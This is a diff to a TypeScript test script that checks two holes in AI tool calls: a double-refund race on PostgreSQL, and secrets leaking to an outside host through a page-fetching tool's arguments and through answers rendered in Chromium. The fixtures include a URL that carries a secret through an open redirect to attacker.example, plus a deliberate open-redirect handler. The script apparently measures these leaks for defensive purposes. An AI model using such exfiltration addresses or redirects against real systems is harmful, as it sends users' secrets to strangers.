@@ -1,5 +1,5 @@
-// The two holes of the article on tool calls, tried out: two confirmations that wait at the same time,
-// on PostgreSQL, and data that leaves through tools and answers that only read, with a real browser.
+// Tries out the article's two holes: two confirmations that wait at the same time, on PostgreSQL, and data
+// that leaks through tools that only read and through answers, in a real browser.
 import { once } from 'node:events'
 import { createServer, request } from 'node:http'
 import type { AddressInfo } from 'node:net'
@@ -10,7 +10,7 @@ import { pageHeaders } from '#contracts/security-headers.ts'
 import { identity } from '#identity.ts'
 import { findChromium } from '#scripts/chromium.ts'
 import type { PostgresServer } from '#server/testing/postgres.ts'
-import type { Evidence } from './kit/evidence.ts'
+import { type Evidence, extentOf } from './kit/evidence.ts'
 import { openPool, withPostgres } from './postgres/postgres.ts'
 
 export default {
@@ -18,10 +18,10 @@ export default {
     'Five hundred orders with two confirmed refunds each, on PostgreSQL; six addresses under seven policies, with a listener that plays the stranger; four answers shown in Chromium.',
   produce: async () => ({
     'race.csv': await withPostgres(race),
-    'addresses.csv': await argumentsThatTell(),
-    'answers.csv': await answersThatTell(),
+    'addresses.csv': await leaksThroughArguments(),
+    'answers.csv': await leaksThroughAnswers(),
   }),
-  // How often two transactions overlap is up to the machine; that some do, and where none do, is not.
+  // How often two transactions overlap depends on the machine. Whether any do, doesn't.
   tolerance: { 'race.csv': { refunds: 0.5, refunded_twice: 1 } },
   slow: true,
 } satisfies Evidence
@@ -29,30 +29,28 @@ export default {
 const orderCount = 500
 const paid = 4900
 
-/** Ways to refund a confirmed amount of an order. Each says whether it refunded. */
-const refunds: Record<string, (client: pg.PoolClient, order: number) => Promise<boolean>> = {
-  async 'trusts the check in plan'(client, order) {
-    await client.query('update orders set refunded = refunded + $2 where id = $1', [order, paid])
-    return true
-  },
-  async 'checks again, then writes'(client, order) {
+/** Refunds the confirmed amount of an order and returns whether it did. */
+type Refund = (client: pg.PoolClient, order: number) => Promise<boolean>
+
+const write: Refund = async (client, order) => {
+  await client.query('update orders set refunded = refunded + $2 where id = $1', [order, paid])
+  return true
+}
+
+const checkAndWrite =
+  (lock = ''): Refund =>
+  async (client, order) => {
     const { rows } = await client.query(
-      'select cents - refunded as left from orders where id = $1',
+      `select cents - refunded as left from orders where id = $1 ${lock}`,
       [order],
     )
-    if (rows[0].left < paid) return false
-    await client.query('update orders set refunded = refunded + $2 where id = $1', [order, paid])
-    return true
-  },
-  async 'locks the row, checks again, writes'(client, order) {
-    const { rows } = await client.query(
-      'select cents - refunded as left from orders where id = $1 for update',
-      [order],
-    )
-    if (rows[0].left < paid) return false
-    await client.query('update orders set refunded = refunded + $2 where id = $1', [order, paid])
-    return true
-  },
+    return rows[0].left >= paid && write(client, order)
+  }
+
+const refunds: Record<string, Refund> = {
+  'trusts the check in plan': write,
+  'checks again, then writes': checkAndWrite(),
+  'locks the row, checks again, writes': checkAndWrite('for update'),
   async 'checks in the statement that writes'(client, order) {
     const { rowCount } = await client.query(
       `update orders set refunded = refunded + $2
@@ -63,10 +61,7 @@ const refunds: Record<string, (client: pg.PoolClient, order: number) => Promise<
   },
 }
 
-const extentOf = (count: number, of: number) =>
-  count === 0 ? 'none' : count === of ? 'all' : 'some'
-
-/** Each order has two confirmations for all of its price; both were planned before either runs. */
+/** Each order has two confirmations for its full price, both planned before either runs. */
 async function race(server: PostgresServer) {
   const rows = []
   for (const [run, refund] of Object.entries(refunds)) {
@@ -122,7 +117,7 @@ const addresses = [
   `http://${ours}/leave?to=http://attacker.example/?d=${secret}`,
 ]
 
-/** What a tool that fetches pages may be allowed to fetch. */
+/** What a tool that fetches pages may fetch. */
 const policies: Record<string, { allows: (address: string) => boolean; follows: boolean }> = {
   'any address': { allows: () => true, follows: true },
   'the text contains our host': { allows: (address) => address.includes(ours), follows: true },
@@ -145,14 +140,14 @@ const policies: Record<string, { allows: (address: string) => boolean; follows: 
   'no address at all: a number from the last search': { allows: () => false, follows: false },
 }
 
-/** Lets a fetching tool loose under each policy. All hosts are one listener on this machine. */
-async function argumentsThatTell() {
+/** Has a tool fetch the addresses under each policy. One listener on this machine plays all hosts. */
+async function leaksThroughArguments() {
   const heard: string[] = []
   const listener = createServer((asked, answer) => {
     const { pathname, searchParams } = new URL(asked.url ?? '/', 'http://host')
     if (asked.headers.host !== ours) heard.push(`${asked.headers.host}${asked.url}`)
     const to = searchParams.get('to')
-    // An open redirect, as sign-in pages and link counters have them.
+    // An open redirect, like those of sign-in pages and link counters.
     if (asked.headers.host === ours && pathname === '/leave' && to)
       answer.writeHead(302, { location: to })
     answer.end('a page')
@@ -183,8 +178,8 @@ async function argumentsThatTell() {
   return rows
 }
 
-/** Shows answers with a picture or a link to a stranger's host, in Chromium, and counts who hears of it. */
-async function answersThatTell() {
+/** Shows answers that point to a stranger's host in Chromium, and counts the requests that tell the stranger. */
+async function leaksThroughAnswers() {
   const heard: string[] = []
   const stranger = createServer((asked, answer) => {
     heard.push(asked.url ?? '')
